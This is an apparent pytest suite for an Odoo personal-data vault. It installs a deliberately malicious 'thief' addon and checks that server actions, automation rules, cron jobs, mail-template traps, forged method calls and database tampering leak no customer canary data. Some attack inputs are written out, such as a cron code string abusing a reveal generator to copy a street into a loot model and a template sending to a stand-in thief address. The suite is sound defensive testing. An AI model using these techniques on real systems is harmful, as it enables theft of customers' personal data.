"""Code that wants to keep what it is shown: a foreign addon, server actions, automation rules, templates.

All of it runs in the sessions of people who may see customers, and of an administrator who may not.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from json import dumps

import pytest
from canary import Canary, Scanner, make_canaries

from house import REPO
from support import people
from support.figures import figure
from support.odoo import Database
from support.people import Answer, Person, RpcError

from .access_matrix import world
from .access_matrix.roles import WORK
from .hostile import actions, addon

VAULT = "pii_retention.group_"
STAFF = {
    "sales": WORK,
    "settings": [*WORK, "base.group_system", "mail.group_mail_template_editor"],
    "clerk": [*WORK, f"{VAULT}fulfilment", f"{VAULT}fiscal"],
    "former": [*WORK, f"{VAULT}fulfilment", f"{VAULT}fiscal"],
    "officer": [*WORK, f"{VAULT}privacy_officer"],
}
#: What Odoo says of refusals and of code that fails, all of it on purpose.
LOG = (r"odoo\.(http|sql_db|models|tools|modules|registry|fields|orm)", r"odoo\.addons\.(base|mail|web|thief)")


class Scene:
    """The database with the foreign addon, and what has been tried in it."""

    def __init__(self, place: world.World, staff: dict[str, Person], typed: dict[str, Canary]) -> None:
        self.place = place
        self.staff = staff
        self.typed = typed
        self.scanner = world.scanner([*place.buyers, typed])
        self.tried = 0
        self.started = time.time()
        ids = place.protected_ids
        self.names = {
            "clerk": staff["clerk"].uid,
            "officer": staff["officer"].uid,
            "picking": ids["stock.picking"][0],
            "move": ids["account.move"][0],
            "file": ids["ir.attachment"][0],
            "subject": ids["pii.subject"][0],
        }
        self.sale = ids["sale.order"][0]
        self.context = {"active_model": "sale.order", "active_id": self.sale, "active_ids": [self.sale]}

    def attempt(self, label: str, act: Callable[[], object]) -> None:
        """Do it, whatever comes of it, and look for customers in what comes back."""
        self.tried += 1
        try:
            answer = act()
        except RpcError as error:
            answer = f"{error} {error.debug}"
        body = answer.body if isinstance(answer, Answer) else dumps(answer, default=str).encode()
        self.scanner.scan_bytes(body, label)

    def count(self, condition: str) -> int:
        """Rows of the access log."""
        return int(self.place.database.psql(f"SELECT count(*) FROM pii_access_log WHERE {condition}")[0])


@pytest.fixture
def scene(odoo_db, sandbox, tmp_path):
    place = world.build(odoo_db, sandbox)
    odoo_db.allow_log(*LOG)
    database_place = odoo_db.place
    folders = f"{addon.write(tmp_path / 'addons')},{REPO / 'addons'}"
    if database_place.odoo.addons:
        folders += "," + ",".join(map(str, database_place.odoo.addons))
    odoo_db.config = odoo_db.write_config(odoo_db.folder / "odoo.conf", addons_path=folders)
    database_place.install(odoo_db.config, odoo_db.folder / "install.log", "A foreign addon", install=[addon.NAME])
    odoo_db.python(people.MAKE, people=STAFF)
    typed = make_canaries(seed=97, n=1)[0]
    with odoo_db.serve(addons_path=folders) as server:
        staff = {login: Person(server, login).login() for login in STAFF}
        people.without_second_factor(staff["officer"])
        people.approve_requests(staff["officer"])
        people.revoke_grants(staff["officer"], "former")
        yield Scene(place, staff, typed)


def _everything(database: Database) -> str:
    server = database.place.server
    return f"host={server.host} port={server.port} user={server.superuser} dbname={database.name}"


def test_hostile_code_keeps_nothing(scene):
    """What is typed into Odoo opens nothing, a foreign addon is shown nothing, and nothing of it is at rest."""
    opened = scene.count("outcome = 'opened'")
    _type_an_address(scene)
    _server_actions(scene)
    _automation(scene)
    _scheduled(scene)
    _mail_templates(scene)
    _foreign_methods(scene)
    _un_revoked(scene)
    assert scene.count("outcome = 'opened'") == opened, "something was opened"
    refused = scene.count("outcome = 'refused' AND cause = 'evaluated'")
    assert refused >= 10, "hardly anything came as far as the gate"
    assert scene.scanner.report.clean, scene.scanner.report.table()
    _foreign_report(scene)

    database = scene.place.database
    scene.scanner.scan_database(_everything(database), "db")
    for path in sorted(database.data_dir.rglob("*")):
        if path.is_file() and path.stat().st_mtime >= scene.started:
            scene.scanner.scan_file(path, f"data/{path.relative_to(database.data_dir)}")
    scene.scanner.scan_file(database.log, "odoo log")
    city = scene.place.control["city"].value.replace("'", "''")
    kept = database.psql(f"SELECT count(*) FROM res_partner WHERE thief_copy LIKE '%{city}%'")
    figure("hostile_attempts", scene.tried, "attempts")
    figure("hostile_refused_by_gate", refused, "rows")
    figure("hostile_plaintext", len(scene.scanner.report.findings), "places", 0)
    assert int(kept[0]), "the addon kept nothing of anybody"
    assert scene.scanner.report.clean, scene.scanner.report.table()


def _type_an_address(scene: Scene) -> None:
    """Overrides of a module that was loaded later see what a person types only after it was sealed."""
    values = {name: scene.typed[name].value for name in ("name", "street", "zip", "city", "phone", "email", "vat")}
    partner = scene.place.protected_ids["res.partner"][0]
    sales = scene.staff["sales"]
    assert sales.call("res.partner", "write", [partner], values)
    assert sales.call("res.partner", "write", scene.place.control_ids["res.partner"], {"city": "Nowhere"})
    for login in ("sales", "settings", "clerk"):
        for context in ({}, {"greedy": True}, {"greedy": True, "pii_reveal": True, "su": True, "uid": 1}):
            scene.attempt(
                f"{login}: read with {context}",
                lambda login=login, context=context: scene.staff[login].call(
                    "res.partner", "read", [partner],
                    ["name", "display_name", "complete_name", "thief_copy", "thief_index"], context=context,
                ),
            )  # fmt: skip
    # somebody whom the vault does not protect: the addon does keep what it is shown
    plain = {name: canary.value for name, canary in scene.place.control.items() if name in values}
    sales.call("res.partner", "create", [plain])


def _server_actions(scene: Scene) -> None:
    settings = scene.staff["settings"]
    model = settings.call("ir.model", "search", [["model", "=", "sale.order"]])[0]
    note = settings.call("ir.model.fields", "search", [["model", "=", "sale.order"], ["name", "=", "note"]])[0]
    made = {}
    for label, code in actions.CODES.items():
        made[label] = {"state": "code", "code": code.format(**scene.names)}
    for label, formula in actions.FORMULAS.items():
        made[label] = {
            "state": "object_write",
            "update_path": "note",
            "update_field_id": note,
            "evaluation_type": "equation",
            "value": formula.format(**scene.names),
        }
    for label, values in made.items():
        try:
            action = settings.call("ir.actions.server", "create", [{"name": label, "model_id": model, **values}])[0]
        except RpcError:
            scene.tried += 1  # Odoo itself does not take it
            continue
        for login in ("settings", "clerk"):
            scene.attempt(
                f"{login} runs {label}",
                lambda login=login, action=action: scene.staff[login].call(
                    "ir.actions.server", "run", [action], context=scene.context
                ),
            )


def _automation(scene: Scene) -> None:
    """An administrator's rule runs at the click of somebody who may see the customer."""
    settings = scene.staff["settings"]
    model = settings.call("ir.model", "search", [["model", "=", "sale.order"]])[0]
    for label in ("generator", "render", "with_user"):
        code = actions.CODES[label].format(**scene.names)
        step = {"name": label, "model_id": model, "state": "code", "code": code, "usage": "base_automation"}
        rule = {"name": label, "model_id": model, "trigger": "on_create_or_write", "action_server_ids": [[0, 0, step]]}
        made = settings.call("base.automation", "create", [rule])
        scene.attempt(
            f"rule {label}",
            lambda label=label: scene.staff["clerk"].call("sale.order", "write", [scene.sale], {"origin": label}),
        )
        settings.call("base.automation", "write", made, {"active": False})


def _scheduled(scene: Scene) -> None:
    """A scheduled action under the identity of the import, and under a clerk's name."""
    settings = scene.staff["settings"]
    model = settings.call("ir.model", "search", [["model", "=", "res.partner"]])[0]
    service = settings.call("res.users", "search", [["login", "=", _service(scene)]])[0]
    generator = """
partner = model.search([('pii_subject_id', '!=', False)], limit=1)
inside = partner.pii_subject_id.reveal('import_decision').gen.send(None)
model.env['thief.loot'].create({'name': inside['res.partner'].browse(partner.id).street})
"""
    for user in (service, scene.staff["clerk"].uid):
        for code in ("model._cron_steal()", generator, actions.CODES["keys"].format(**scene.names)):
            values = {"name": "Collect", "model_id": model, "state": "code", "code": code, "user_id": user}
            cron = settings.call("ir.cron", "create", [{**values, "interval_number": 1, "interval_type": "days"}])
            scene.attempt(f"cron of {user}", lambda cron=cron: settings.call("ir.cron", "method_direct_trigger", cron))


def _service(scene: Scene) -> str:
    sql = "SELECT login FROM res_users WHERE id = (SELECT res_id FROM ir_model_data WHERE name = 'user_service')"
    return scene.place.database.psql(sql)[0]


def _mail_templates(scene: Scene) -> None:
    settings = scene.staff["settings"]
    model = settings.call("ir.model", "search", [["model", "=", "sale.order"]])[0]
    for label, body in actions.BODIES.items():
        # Odoo draws a template once when it is saved: it waits for somebody who may see the customer
        trap = f'<t t-if="object.env.uid == {scene.names["clerk"]}">{body.format(**scene.names)}</t>'
        values = {"name": label, "model_id": model, "body_html": trap}
        template = settings.call("mail.template", "create", [values])[0]
        for login in ("settings", "clerk"):
            preview = {"mail_template_id": template, "resource_ref": f"sale.order,{scene.sale}"}
            compose = {"template_id": template, "model": "sale.order", "res_ids": repr([scene.sale])}
            for wizard, vals, field in (
                ("mail.template.preview", preview, "body_html"),
                ("mail.compose.message", {**compose, "composition_mode": "comment"}, "body"),
            ):
                scene.attempt(
                    f"{login}: {wizard} {label}",
                    lambda login=login, wizard=wizard, vals=vals, field=field: _made(
                        scene.staff[login], wizard, vals, field
                    ),
                )
            scene.attempt(
                f"{login}: sends {label}",
                lambda login=login, template=template: scene.staff[login].call(
                    "mail.template",
                    "send_mail",
                    [template],
                    scene.sale,
                    email_values={"email_to": "x@thief.example.com"},
                ),
            )


def _made(person: Person, wizard: str, vals: dict[str, object], field: str) -> object:
    return person.call(wizard, "read", person.call(wizard, "create", [vals]), [field])


def _foreign_methods(scene: Scene) -> None:
    """A module's own method with all that it can forge, called by people who may not see customers."""
    for login in ("sales", "settings", "officer", "former"):
        for purpose in ("label", "invoice", "incident", "import_decision"):
            scene.attempt(
                f"{login}: steal {purpose}",
                lambda login=login, purpose=purpose: scene.staff[login].call("res.partner", "steal", [], purpose),
            )


def _un_revoked(scene: Scene) -> None:
    """Whoever writes to the database sets the state back; the seal was broken when the grant was revoked."""
    database = scene.place.database
    database.psql(
        "UPDATE pii_grant SET state = 'approved', revoked_at = NULL, date_end = now() + interval '90 days' "
        f"WHERE user_id = {scene.staff['former'].uid}"
    )
    group = "SELECT res_id FROM ir_model_data WHERE module = 'pii_retention' AND name = 'group_fulfilment'"
    role = {"group_ids": [[4, int(database.psql(group)[0])]]}
    scene.staff["settings"].call("res.users", "write", [scene.staff["former"].uid], role)
    former = scene.staff["former"]
    asked = {"subject_id": scene.names["subject"], "model": "sale.order", "id": scene.sale}
    for purpose in ("label", "invoice"):
        scene.attempt(
            f"former: reveal {purpose}",
            lambda purpose=purpose: former.rpc(
                "/pii/reveal", {**asked, "purpose": purpose, "reason": "as it was before"}
            ),
        )
    assert scene.count(f"cause = 'no_grant' AND user_ref = {former.uid}") >= 1


def _foreign_report(scene: Scene) -> None:
    """A foreign document with a purpose shows the customer to whom it may, and can keep nothing."""
    clerk, sales = scene.staff["clerk"], scene.staff["sales"]
    street = scene.typed["street"].value
    path = f"/report/html/thief.slip/{scene.sale}"
    shown = Scanner([scene.typed["street"], *(person["street"] for person in scene.place.buyers)])
    shown.scan_bytes(clerk.get(path).body, "slip")
    assert shown.report.fields("slip"), f"the clerk's slip shows no {len(street)} letters of a street"
    scene.attempt("sales: foreign slip", lambda: sales.get(path))
    for how in ("write", "create", "sql", "commit", "chatter", "bus", "parameter", "attachment", "wider"):
        scene.tried += 1
        clerk.get(f"{path}?how={how}")
